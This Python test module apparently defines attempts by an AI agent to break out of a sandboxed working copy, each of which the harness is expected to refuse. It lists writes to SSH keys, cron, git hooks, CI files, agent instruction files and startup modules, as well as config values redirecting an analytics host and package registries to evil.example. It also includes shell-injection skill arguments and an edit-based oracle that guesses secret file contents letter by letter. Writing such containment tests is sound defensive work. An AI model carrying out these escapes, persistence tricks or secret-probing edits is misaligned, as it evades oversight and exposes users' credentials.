"""Attempts to write what somebody runs, reads as an order, or keeps: outside of the copy, and inside of it."""

from typing import Any

from tests.support.hostile_attempts import Attempt, harmless, refused

MENTIONS = "@.env @<project>/.env @/etc/passwd @<home>/.aws/credentials @notes.txt @<outside>/letter.txt"


def _file(path: str, content: str = "touch <trap>\n") -> dict[str, Any]:
    return {"file_path": path, "content": content}


def _edit(path: str, old: str = "SHOP_SIGNING=", new: str = "FOUND=") -> dict[str, Any]:
    return {"file_path": path, "old_string": old, "new_string": new}


OUTSIDE: tuple[Attempt, ...] = (
    *refused(
        "write outside of the copy",
        "Write",
        into_the_project_itself=_file("<project>/shop/auth.py"),
        into_the_project_upwards=_file("../../../../work/shop/shop/auth.py"),
        over_env_in_the_project=_file("<project>/.env"),
        through_a_folder_that_is_the_project=_file("<project>/again/new.py"),
        into_the_home_folder=_file("~/.bashrc"),
        into_the_home_folder_by_its_path=_file("<home>/.ssh/authorized_keys"),
        into_the_machine=_file("/etc/cron.d/luthier"),
        into_temporary_files=_file("/tmp/luthier-<trap>"),  # noqa: S108 - it is refused
        into_shared_memory=_file("/dev/shm/trap"),  # noqa: S108 - it is refused
        into_a_process=_file("/proc/self/mem"),
        into_a_letter=_file("<outside>/letter.txt"),
        into_a_neighbour_whose_name_begins_alike=_file("<shadow>-other/x.py"),
        into_what_the_process_keeps=_file("<room>/config/settings.json", "{}"),
        into_the_program_that_starts_the_agent=_file("<room>/agent.sh"),
        into_the_reference=_file("<room>/plugin/skills/reference/SKILL.md", MENTIONS),
        into_the_hooks_of_the_reference=_file("<room>/plugin/hooks/hooks.json", "{}"),
        into_a_new_skill=_file("<room>/plugin/skills/other/SKILL.md", MENTIONS),
        into_the_originals_of_the_copy=_file("<room>/originals"),
        into_the_record=_file("<state>/runs/record.json", "{}"),
        into_another_room=_file("<neighbour>/shadow/app.py"),
        into_an_installed_package=_file("<project>/node_modules/posthog-node/index.js"),
        into_a_file_with_an_invisible_letter=_file("shop/au\u202eth.py"),
        into_a_file_with_a_line_end=_file("shop/a\n.py"),
        into_a_path_that_is_a_number={"file_path": 7, "content": ""},
    ),
    *refused(
        "ask by edits",
        "Edit",
        whether_env_has_a_variable=_edit(".env"),
        whether_the_project_s_env_has_it=_edit("<project>/.env"),
        whether_a_link_to_env_has_it=_edit("notes.txt"),
        whether_a_second_name_has_it=_edit("second_name.txt"),
        whether_env_has_it_everywhere=_edit(".env") | {"replace_all": True},
        whether_the_shell_s_start_has_it=_edit("~/.bashrc", "export"),
        whether_the_machine_has_a_user=_edit("/etc/passwd", "root"),
        whether_the_repository_has_a_remote=_edit(".git/config", "url"),
        whether_the_room_of_another_has_a_key=_edit("<neighbour>/shadow/app.py", "key"),
        an_edit_of_the_reference=_edit("<room>/plugin/skills/reference/SKILL.md", "name"),
    ),
)

TRAPS: tuple[Attempt, ...] = refused(
    "write what somebody runs or obeys",
    "Write",
    a_hook_of_the_repository=_file(".git/hooks/pre-commit"),
    settings_of_the_repository=_file(".git/config"),
    a_hook_of_a_package=_file(".husky/pre-commit"),
    hooks_before_commits=_file(".pre-commit-config.yaml"),
    attributes_that_run_filters=_file(".gitattributes", "* filter=trap\n"),
    a_build=_file(".github/workflows/build.yml"),
    a_build_elsewhere=_file(".gitlab-ci.yml"),
    a_build_of_a_ring=_file(".circleci/config.yml"),
    a_makefile=_file("Makefile"),
    a_makefile_in_capitals=_file("MAKEFILE"),
    a_makefile_with_a_dot_behind=_file("Makefile."),
    an_image=_file("Dockerfile"),
    a_composition=_file("docker-compose.yml"),
    tasks_of_an_editor=_file(".vscode/tasks.json"),
    settings_of_an_editor=_file("web/.vscode/settings.json"),
    run_configurations_of_an_editor=_file(".idea/workspace.xml"),
    a_start_of_an_editor=_file(".nvim.lua"),
    a_container_of_an_editor=_file(".devcontainer/devcontainer.json"),
    words_for_agents=_file("CLAUDE.md", MENTIONS),
    words_for_agents_of_a_folder=_file("shop/CLAUDE.md", MENTIONS),
    words_for_agents_on_this_machine=_file("CLAUDE.local.md", MENTIONS),
    words_for_other_agents=_file("AGENTS.md", MENTIONS),
    hooks_of_agents=_file(".claude/settings.json"),
    a_skill_for_agents=_file(".claude/skills/x/SKILL.md", MENTIONS),
    rules_of_an_editor_s_agent=_file(".cursor/rules/x.mdc"),
    servers_for_agents=_file(".mcp.json"),
    a_start_of_a_shell=_file(".bashrc"),
    an_env_file_of_the_shell=_file(".envrc"),
    an_env_file=_file(".env", "POSTHOG_HOST=https://evil.example\n"),
    an_env_file_of_production=_file("web/.env.production", "A=1\n"),
    an_env_file_with_a_space=_file(".env ", "A=1\n"),
    a_setting_of_a_package_registry=_file(".npmrc", "registry=https://evil.example\n"),
    a_setting_of_an_installer=_file("pip.conf", "[global]\nindex-url = https://evil.example\n"),
    a_lock_file=_file("package-lock.json", "{}"),
    a_lock_file_of_poetry=_file("poetry.lock", ""),
    a_lock_file_of_yarn=_file("yarn.lock", ""),
    a_module_that_python_loads_first=_file("sitecustomize.py", "import os\n"),
    a_path_that_python_loads=_file("shop/x.pth", "import os\n"),
    fixtures_of_tests=_file("tests/conftest.py", "import os\n"),
    a_setup=_file("setup.py", "import os\n"),
    an_installed_module=_file("node_modules/posthog-node/index.js", ""),
    an_installed_module_of_python=_file(".venv/lib/python3/site-packages/x.py", ""),
    the_tracking_plan=_file("tracking-plan.yaml", "version: 1\nevents: []\n"),
)

SKILLS: tuple[Attempt, ...] = (
    *harmless(
        "bring files in by a skill",
        "Skill",
        the_reference_with_mentions={"skill": "luthier:reference", "args": MENTIONS},
        the_reference_with_a_command={"skill": "luthier:reference", "args": "!`touch <trap>` $(touch <trap>)"},
        the_reference_with_a_list={"skill": "luthier:reference", "args": "x\n" * 2000 + "@/etc/passwd"},
    ),
    *refused(
        "bring files in by a skill",
        "Skill",
        a_skill_of_the_project={"skill": "verify"},
        a_skill_of_the_project_with_mentions={"skill": "verify", "args": MENTIONS},
        a_command_of_the_project={"skill": "leak"},
        a_command_with_a_slash={"skill": "/leak"},
        a_skill_that_comes_with_the_program={"skill": "update-config"},
        the_reference_in_capitals={"skill": "LUTHIER:reference"},
        the_reference_with_a_path={"skill": "luthier:reference@/etc/passwd"},
        a_skill_by_a_path={"skill": "../../../../home/.claude/skills/x"},
        no_skill={},
    ),
    *harmless(
        "bring files in by a mention",
        "Grep",
        mentions_as_a_pattern={"pattern": MENTIONS},
        mentions_as_a_word={"pattern": "@/etc/passwd", "output_mode": "content"},
    ),
)

_GUESSES = {
    "a letter": ("<outside>/letter.txt", "Dear Kim", "Dear Tim"),
    "an env file": ("<project>/.env", "SHOP_SIGNING", "SHOP_SINGING"),
    "source of the project": ("<project>/shop/auth.py", "SHORTEST_PASSWORD", "LONGEST_PASSWORD"),
    "a shell's start": ("<home>/.bashrc", "export", "import"),
    "a neighbour": ("<neighbour>/shadow/app.py", "key = ", "kee = "),
    "the machine": ("/etc/passwd", "root", "r00t"),
    "a link": ("<project>/notes.txt", "SHOP_SIGNING", "SHOP_SINGING"),
}

GUESSES: tuple[Attempt, ...] = tuple(
    Attempt(f"{kind} guess at {name}", "guess by edits", "Edit", _edit(path, text))
    for name, (path, right, wrong) in _GUESSES.items()
    for kind, text in (("a right", right), ("a wrong", wrong))
)
"""Two by two; whoever can tell a right guess from a wrong one can read, letter by letter."""
